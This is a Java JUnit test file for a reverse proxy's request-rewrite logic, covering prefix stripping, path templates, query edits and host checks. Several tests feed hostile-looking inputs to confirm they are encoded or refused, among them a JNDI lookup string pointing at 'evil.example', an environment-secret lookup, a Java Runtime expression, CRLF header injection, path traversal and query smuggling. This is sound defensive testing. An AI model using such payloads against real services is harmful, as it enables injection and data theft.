package dev.gatehouse.engine.target.proxy;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.gatehouse.engine.config.QueryEditsConfig;
import dev.gatehouse.engine.target.AskedClient;
import dev.gatehouse.http1.HeadWriter;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RequestRewriteTest {
    @Test
    void a_route_that_changes_nothing_has_no_rewrite() {
        assertThat(RequestRewrite.of(null, null, "pass", QueryEditsConfig.NONE)).isNull();
    }

    // strip_prefix

    @ParameterizedTest
    @CsvSource({
        "/serviceA/x/y?q=1, /x/y?q=1",
        "/serviceA,         /",
        "/serviceA/,        /",
        "/serviceA?,        /?",
        "/serviceA/%20%C3%A9;v=1?a=%20&&b, /%20%C3%A9;v=1?a=%20&&b",
        "/serviceAB/x,      /serviceAB/x",
        "/servicea/x,       /servicea/x",
        "/x/serviceA,       /x/serviceA",
    })
    void a_prefix_is_taken_away_where_a_segment_ends(String asked, String sent) {
        assertThat(sent(strip("/serviceA"), AskedClient.asking(asked))).isEqualTo(sent);
    }

    @Test
    void a_prefix_is_compared_in_normal_form() {
        assertThat(sent(strip("//caf%c3%a9/./x/"), AskedClient.asking("/caf%C3%A9/x/y")))
                .isEqualTo("/y");
    }

    @ParameterizedTest
    @ValueSource(strings = {"serviceA", "", "/a b", "/a?b", "/../a", "/a%2fb", "/a HTTP/1.1\r\nX: y", "/a#b", "/é"})
    void a_prefix_that_is_no_path_is_refused(String prefix) {
        assertThatThrownBy(() -> strip(prefix))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("strip_prefix: ");
    }

    @Test
    void a_prefix_beside_a_rewrite_is_refused() {
        assertThatThrownBy(() -> RequestRewrite.of("/a", "/b", "pass", QueryEditsConfig.NONE))
                .hasMessageStartingWith("strip_prefix: rewrite says the whole path already");
    }

    // rewrite

    @Test
    void a_rewrite_puts_parameters_where_they_are_named() {
        AskedClient client = AskedClient.asking("/menus/r42/dishes/a%20b")
                .parameter("id", "r42")
                .parameter("rest", "dishes/a%20b");
        assertThat(sent(rewrite("/v2/{id}/{rest}"), client)).isEqualTo("/v2/r42/dishes/a%20b");
    }

    @Test
    void what_a_trailing_double_star_matched_is_sent_as_it_came() {
        AskedClient client =
                AskedClient.asking("/admin/a;x=1,2/%2B+:@!$&'()*/").parameter("rest", "a;x=1,2/%2B+:@!$&'()*/");
        assertThat(sent(rewrite("/internal/admin/{rest}"), client)).isEqualTo("/internal/admin/a;x=1,2/%2B+:@!$&'()*/");
    }

    @Test
    void a_double_star_that_matched_nothing_leaves_nothing() {
        AskedClient client = AskedClient.asking("/admin").parameter("rest", "");
        assertThat(sent(rewrite("/internal/admin/{rest}"), client)).isEqualTo("/internal/admin/");
    }

    @Test
    void the_clients_query_is_kept_unless_the_rewrite_has_one() {
        assertThat(sent(rewrite("/new"), AskedClient.asking("/old?a=%41&&b"))).isEqualTo("/new?a=%41&&b");
        assertThat(sent(rewrite("/new?x=1"), AskedClient.asking("/old?a=1"))).isEqualTo("/new?x=1");
        assertThat(sent(rewrite("/new?"), AskedClient.asking("/old?a=1"))).isEqualTo("/new");
    }

    @Test
    void a_value_in_the_query_of_a_rewrite_stays_one_value() {
        AskedClient client = AskedClient.asking("/invoices/7;x=1&y=2").parameter("id", "7;x=1&y=2");
        assertThat(sent(
                        rewrite("/legacy/invoice.do?id={id}&lang={query.lang}"),
                        client.fact("query.lang", "d&admin=1#%")))
                .isEqualTo("/legacy/invoice.do?id=7%3Bx%3D1%26y%3D2&lang=d%26admin%3D1%23%25");
    }

    @Test
    void a_fact_in_the_path_is_one_segment() {
        AskedClient client = AskedClient.asking("/x").fact("header.x-tenant", "a/b?c#d\r\nX: y");
        assertThat(sent(rewrite("/t/{header.x-tenant}/x"), client)).isEqualTo("/t/a%2Fb%3Fc%23d%0D%0AX:%20y/x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#{T(java.lang.Runtime)}",
                "${jndi:ldap://evil.example/a}",
                "${env:SECRET}",
                "{query.other}",
                "{{x}}"
            })
    void a_value_that_looks_like_code_is_sent_as_text(String value) {
        AskedClient client = AskedClient.asking("/x").fact("query.q", value).fact("query.other", "LEAKED");
        String sent = sent(rewrite("/s/{query.q}"), client);
        assertThat(sent).doesNotContain("LEAKED", "{", "}").startsWith("/s/");
        assertThat(java.net.URLDecoder.decode(sent.substring(3), java.nio.charset.StandardCharsets.UTF_8))
                .isEqualTo(value);
    }

    @ParameterizedTest
    @CsvSource({
        "/v2/{query.d}/secret, ..",
        "/v2/{query.d}, .",
        "/v2/.{query.d}, .",
        "/v2/{query.d}/x, ..;a",
        "/{query.d}{query.d}, .",
        // a service that decodes the escape would see one
        "/v2/{query.d}, ../x",
        "/v2/{query.d}, x/..",
        "/v2/{query.d}/y, x/.",
        "/v2/{query.d}, x/../../y",
        "/v2/..{query.d}, /x",
        "/v2/{query.d}, ..\\x"
    })
    void a_value_cannot_make_a_dot_segment(String rewrite, String value) {
        assertThat(rewrite(rewrite).target(AskedClient.asking("/x").fact("query.d", value), new HeadWriter()))
                .isNull();
    }

    @Test
    void an_escaped_slash_of_the_client_is_sent_on_in_its_segment() {
        AskedClient client = AskedClient.asking("/files/..a%2Fb.%5C.c").parameter("name", "..a%2Fb.%5C.c");
        assertThat(sent(rewrite("/store/{name}"), client)).isEqualTo("/store/..a%2Fb.%5C.c");
        assertThat(sent(strip("/files"), client)).isEqualTo("/..a%2Fb.%5C.c");
    }

    @ParameterizedTest
    @ValueSource(strings = {"%2Fx", "%5Cx", "%3Bx"})
    void a_parameter_behind_dots_cannot_make_them_climb(String value) {
        AskedClient client = AskedClient.asking("/files/" + value).parameter("name", value);
        assertThat(rewrite("/store/..{name}").target(client, new HeadWriter())).isNull();
    }

    @Test
    void a_missing_value_leaves_no_double_slash() {
        assertThat(sent(rewrite("/{query.a}/{query.b}/x"), AskedClient.asking("/y")))
                .isEqualTo("/x");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "v2/{id}     | rewrite: a path begins with '/'",
                "/v2/{id     | rewrite: '{' is not closed",
                "/a b        | rewrite: a URL cannot hold ' '",
                "/a#b        | rewrite: '#' begins a fragment",
                "/é          | rewrite: a URL cannot hold 'é'",
                "/a%zz       | rewrite: '%' is followed by two hexadecimal digits",
                "/a%2{x}     | rewrite: '%' is followed by two hexadecimal digits",
                "/a%2fb      | rewrite: a path cannot hold %2F",
                "/a/../b     | rewrite: a path cannot hold '.' or '..' segments",
                "/a/%2e%2e/b | rewrite: a path cannot hold %2E",
            })
    void a_rewrite_that_is_no_path_is_refused(String rewrite, String sentence) {
        assertThatThrownBy(() -> rewrite(rewrite))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith(sentence);
    }

    // query

    @Test
    void edited_pairs_change_and_the_others_stay_as_they_came() {
        RequestRewrite rewrite = query(Map.of("b", "new value"), Map.of("c", "{client.ip}"), List.of("debug"));
        AskedClient client = AskedClient.asking("/x?z=%7e+%20&b=1&debug&a=1=2&b=3&%64ebug=1&c=0")
                .fact("client.ip", "::1");
        assertThat(sent(rewrite, client)).isEqualTo("/x?z=%7e+%20&a=1=2&c=0&b=new%20value&c=%3A%3A1");
    }

    @Test
    void a_query_of_which_nothing_is_left_takes_its_question_mark_along() {
        assertThat(sent(query(Map.of(), Map.of(), List.of("a")), AskedClient.asking("/x?a=1&a=2")))
                .isEqualTo("/x");
    }

    @Test
    void pairs_are_added_where_there_was_no_query_in_the_order_written() {
        Map<String, String> add = new LinkedHashMap<>();
        add.put("z z", "1");
        add.put("a", "2");
        assertThat(sent(query(Map.of(), add, List.of()), AskedClient.asking("/x")))
                .isEqualTo("/x?z%20z=1&a=2");
    }

    @Test
    void a_value_adds_no_pair_of_its_own() {
        AskedClient client = AskedClient.asking("/x").fact("header.x-q", "1&role=admin\r\nX: y");
        assertThat(sent(query(Map.of("q", "{header.x-q}"), Map.of(), List.of()), client))
                .isEqualTo("/x?q=1%26role%3Dadmin%0D%0AX%3A%20y");
    }

    @Test
    void the_query_of_a_rewrite_is_edited_too() {
        RequestRewrite rewrite = RequestRewrite.of(
                null, "/y?a=1&b=2", "pass", new QueryEditsConfig(Map.of("a", "3"), Map.of(), List.of()));
        assertThat(sent(rewrite, AskedClient.asking("/x?c=1"))).isEqualTo("/y?b=2&a=3");
    }

    @Test
    void a_target_that_is_no_path_stays() {
        AskedClient options = AskedClient.asking("/x");
        options.requestSlices().reset();
        options.requestSlices()
                .parse(
                        io.netty.buffer.Unpooled.copiedBuffer("OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", ISO_8859_1),
                        dev.gatehouse.http1.HeadLimits.DEFAULT);
        assertThat(sent(query(Map.of("a", "1"), Map.of(), List.of()), options)).isEqualTo("*");
    }

    // host

    @ParameterizedTest
    @ValueSource(strings = {"a b", "a/b", "user@host", "a:99999", "", "a\r\nX: y", "{request.host}"})
    void a_host_that_is_none_is_refused(String host) {
        assertThatThrownBy(() -> RequestRewrite.of(null, null, host, QueryEditsConfig.NONE))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("host: ");
    }

    private static RequestRewrite strip(String prefix) {
        return changing(RequestRewrite.of(prefix, null, "pass", QueryEditsConfig.NONE));
    }

    private static RequestRewrite rewrite(String template) {
        return changing(RequestRewrite.of(null, template, "pass", QueryEditsConfig.NONE));
    }

    private static RequestRewrite query(Map<String, String> set, Map<String, String> add, List<String> remove) {
        return changing(RequestRewrite.of(null, null, "pass", new QueryEditsConfig(set, add, remove)));
    }

    private static RequestRewrite changing(@Nullable RequestRewrite rewrite) {
        assertThat(rewrite).isNotNull();
        return rewrite;
    }

    private static String sent(RequestRewrite rewrite, AskedClient client) {
        byte[] target = rewrite.target(client, new HeadWriter());
        assertThat(target).isNotNull();
        return new String(target, ISO_8859_1);
    }
}
